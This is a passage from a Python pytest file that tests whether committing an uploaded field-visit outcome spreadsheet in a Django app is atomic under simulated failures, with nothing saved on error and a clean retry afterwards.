        sheet,
        {
            rid(a): {"outcome": "Terekam"},
            rid(b): {"outcome": "Menolak", "reason": "takut"},
            rid(c): {"outcome": "Tidak memenuhi syarat", "reason": "bukan penduduk"},
            rid(d): {"outcome": None},  # clears the printed outcome: an undo
        },
    )
    upload, _page = preview(client, visit, data)
    assert upload.rows_changed == 4
    before = snapshot()
    fault = Fault(monkeypatch, field_sheets, "recording_apply", n=3)  # where the commit looks it up
    with pytest.raises(Killed):
        services.field_sheet_commit(upload=upload, by=operator)
    assert fault.calls == 3
    assert snapshot() == before
    upload.refresh_from_db()
    assert (upload.status, upload.rows_applied, upload.decided_at) == (Status.PREVIEWED, 0, None)
    assert not RecordingAction.objects.filter(field_sheet=upload).exists()

    fault.restore()
    services.field_sheet_commit(upload=upload, by=operator)
    upload.refresh_from_db()
    assert (upload.status, upload.rows_applied) == (Status.COMMITTED, 4)
    assert dict(Recording.objects.filter(visit=visit).values_list("student_id", "outcome")) == {
        a.pk: Outcome.RECORDED,
        b.pk: Outcome.REFUSED,
        c.pk: Outcome.NOT_ELIGIBLE,
    }
    assert RecordingAction.objects.filter(field_sheet=upload).count() == 4


def test_commit_killed_by_a_database_error_on_row_n_saves_nothing(operator, visit_and_students, sheet, monkeypatch):
    """Same, with the fault inside the database write itself (the outcome row insert fails)."""
    visit, (a, b, c, _d) = visit_and_students
    data = filled(sheet, {rid(s): {"outcome": "Terekam"} for s in (a, b, c)})
    upload = services.field_sheet_preview(visit=visit, uploaded_file=SimpleUploadedFile("l.xlsx", data), by=operator)
    assert upload.rows_changed == 3
    before = snapshot()
    from django.db import DatabaseError

    Fault(monkeypatch, Recording.objects, "create", n=2, error=DatabaseError("simulated: connection lost"))
    with pytest.raises(DatabaseError):
        services.field_sheet_commit(upload=upload, by=operator)
    assert snapshot() == before
    upload.refresh_from_db()
    assert upload.status == Status.PREVIEWED
